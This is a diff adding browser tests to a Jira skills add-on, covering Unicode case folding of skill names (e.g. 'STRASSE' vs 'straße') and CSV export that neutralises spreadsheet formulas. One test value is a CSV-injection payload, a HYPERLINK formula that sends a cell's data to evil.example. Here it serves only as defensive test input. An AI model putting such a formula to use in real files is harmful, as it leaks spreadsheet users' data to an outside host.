@@ -5,10 +5,13 @@ from __future__ import annotations
 import json
 import os
 import re
+import unicodedata
 from typing import Any, Iterator
 
 import pytest
 from playwright.sync_api import Browser, Page, expect, sync_playwright
+
+from addon.skills.names import name_key
 
 from .conftest import JiraActions, Tenant
 from .pages_support import CHROMIUM, CHROMIUM_ARGS, JiraFrame, StandInServer, signed_page_url
@@ -704,3 +707,120 @@ def test_finder_opens_skills_with_the_keyboard(ui, experts):
     expect(page.get_by_role("button", name=re.compile(r"^Figma"))).to_be_focused()
     page.keyboard.press("Space")
     expect(page.get_by_role("list", name="People who know Figma").locator(".person-name")).to_have_text(["acc-carol"])
+
+
+# ---------------------------------------------------------------------------------------------
+# Names compare in the browser as on the server (str.casefold, not toLowerCase)
+
+def test_browser_folds_every_character_as_the_server_does(ui, tenant):
+    """SkillsNames.nameKey against addon.skills.names for every code point this Python knows."""
+    page = ui(ALICE).open("/pages/user")
+    expect(page.locator("#skill-list")).to_have_attribute("aria-busy", "false")
+    browser_folds = page.evaluate("""() => {
+        const changed = {};
+        for (let cp = 0; cp <= 0x10ffff; cp++) {
+            if (cp >= 0xd800 && cp <= 0xdfff) continue;
+            const ch = String.fromCodePoint(cp), folded = SkillsNames.casefold(ch);
+            if (folded !== ch) changed[cp] = folded;
+        }
+        return changed;
+    }""")
+    server_folds = {}
+    for cp in range(0x110000):
+        char = chr(cp)
+        if 0xD800 <= cp <= 0xDFFF or unicodedata.category(char) == "Cn":
+            continue
+        if name_key(char) != char:
+            server_folds[str(cp)] = name_key(char)
+    # Characters newer than this Python's Unicode are left out: the server cannot say how it folds them.
+    known = {cp: folded for cp, folded in browser_folds.items() if unicodedata.category(chr(int(cp))) != "Cn"}
+    differ = {f"U+{int(cp):04X}": (known.get(cp), server_folds.get(cp)) for cp in set(known) | set(server_folds)
+              if known.get(cp) != server_folds.get(cp)}
+    assert differ == {}
+    assert len(server_folds) > 1400  # the comparison covered every cased script, not an empty page
+
+    # Whole names: trimmed as str.strip() trims, NFC, folded; toLowerCase alone would fail each of these.
+    samples = ["STRASSE", "straße", "ΣΊΣΥΦΟΣ", "ﬁle", "İstanbul", "\u1e9e", "\x1c Go \x85", "\ufeffGo",
+               "e\u0301t\u00c9", "ǅemal", "ᏣᎳᎩ", "ꮳꮃꭹ"]
+    in_browser = page.evaluate("(names) => names.map(SkillsNames.nameKey)", samples)
+    assert in_browser == [name_key(unicodedata.normalize("NFC", s.strip())) for s in samples]
+    assert in_browser[0] == in_browser[1] and in_browser[10] == in_browser[11]
+
+
+def test_strasse_and_strasse_with_eszett_are_one_skill_in_the_pages_and_the_api(ui, jira, tenant):
+    give(jira, tenant, ALICE, ["STRASSE"])
+    set_tree(jira, tenant, category("Town", skill("STRASSE"), skill("Platz")))
+    me = ui(ALICE)
+    page = me.open("/pages/user")
+    expect(page.locator("#skill-list li .name")).to_have_text(["STRASSE"])
+    # The page's own check: a held skill is not suggested again, whatever its spelling.
+    expect(page.locator("#skill-suggestions option")).to_have_count(1)
+    assert page.locator("#skill-suggestions option").get_attribute("value") == "Platz"
+    # And through the API: the server calls it the same skill.
+    page.get_by_label("Add a skill").fill("straße")
+    page.get_by_label("Add a skill").press("Enter")
+    expect(page.locator("#status")).to_have_text("Already listed: STRASSE.")
+    expect(page.locator("#skill-list li")).to_have_count(1)
+    assert skills_of(jira, tenant, ALICE) == ["STRASSE"]
+
+    finder = me.open("/pages/finder")
+    expect(finder.locator("#tree > ul > li")).to_have_count(1)
+    search = finder.get_by_label("Skill", exact=True)
+    search.fill("Straße")
+    search.press("Enter")
+    expect(finder.locator(".search-summary")).to_have_text("1 person has: STRASSE.")
+
+    # The CSV preview's diff agrees: a file listing "straße" for Alice changes nothing.
+    admin, admin_page = open_admin_tab(ui, "People's skills (CSV)")
+    admin_page.get_by_label("CSV file").set_input_files(files=[{
+        "name": "s.csv", "mimeType": "text/csv", "buffer": f"accountId,skill\n{ALICE},straße\n".encode()}])
+    admin_page.get_by_role("button", name="Preview changes").click()
+    expect(admin_page.locator("#csv-preview-heading")).to_have_text(
+        "Nothing to change: everyone in the file already has exactly these skills.")
+
+
+# ---------------------------------------------------------------------------------------------
+# CSV: no formula reaches a spreadsheet, and export then import is still exact
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1 555", "-Ofast", "@SUM(A1:A9)",
+            "'=already neutral", "''+two", "'plain apostrophe", "Go", "a=b"]
+
+
+def test_csv_export_neutralises_formulas_and_import_restores_them_exactly(ui, jira, tenant):
+    give(jira, tenant, ALICE, FORMULAS)
+    admin, page = open_admin_tab(ui, "People's skills (CSV)")
+    with page.expect_download() as download:
+        page.get_by_role("button", name="Download skills.csv").click()
+    with open(download.value.path(), encoding="utf-8", newline="") as fh:
+        exported = fh.read()
+    cells = [row.split(",", 1)[1] for row in exported.split("\r\n")[1:-1]]
+    assert cells == ['"\'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"', "'+1 555", "'-Ofast", "'@SUM(A1:A9)",
+                     "''=already neutral", "'''+two", "'plain apostrophe", "Go", "a=b"]
+    # No cell a spreadsheet reads as a formula: none starts with = + - @ once unquoted.
+    assert not any(re.match(r'^"?[=+\-@\t\r]', cell) for cell in cells)
+
+    # Alice loses everything; importing the export gives her back exactly what she had.
+    give_none = jira.request(tenant, "POST", "/api/skills-by-account", sub=ADMIN, json={"skillsByAccountId": {ALICE: []}})
+    assert give_none.status_code == 200
+    page.get_by_label("CSV file").set_input_files(
+        files=[{"name": "skills.csv", "mimeType": "text/csv", "buffer": exported.encode("utf-8")}])
+    page.get_by_role("button", name="Preview changes").click()
+    expect(page.locator("#csv-preview-heading")).to_have_text(
+        "Preview: 1 person changes (9 skills added, 0 removed); 0 unchanged.")
+    page.get_by_role("button", name="Apply changes").click()
+    expect(page.locator("#csv-applied")).to_be_visible()
+    assert skills_of(jira, tenant, ALICE) == FORMULAS
+
+
+def test_csv_neutralising_round_trips_every_trigger(ui, tenant):
+    page = ui(ADMIN).open("/pages/admin")
+    expect(page.locator("#tree-editor")).to_have_attribute("aria-busy", "false")
+    values = ["=1+1", "+", "-", "@x", "\tx", "\rx", "'", "'=", "'''@", "x=", " =x", "'x", ""]
+    written = page.evaluate("(values) => values.map(SkillsCsv.neutralise)", values)
+    assert written == ["'=1+1", "'+", "'-", "'@x", "'\tx", "'\rx", "'", "''=", "''''@", "x=", " =x", "'x", ""]
+    assert page.evaluate("(values) => values.map(SkillsCsv.restore)", written) == values
+    # Through the file: parse(format(rows)) restored by the reader gives back the very cells.
+    text = page.evaluate("(values) => SkillsCsv.format([['accountId', 'skill']].concat(values.map(v => ['a1', v])))",
+                         values)
+    assert page.evaluate("(text) => SkillsCsv.parse(text).map(r => r.map(SkillsCsv.restore))", text)[1:] == \
+        [["a1", v] for v in values]
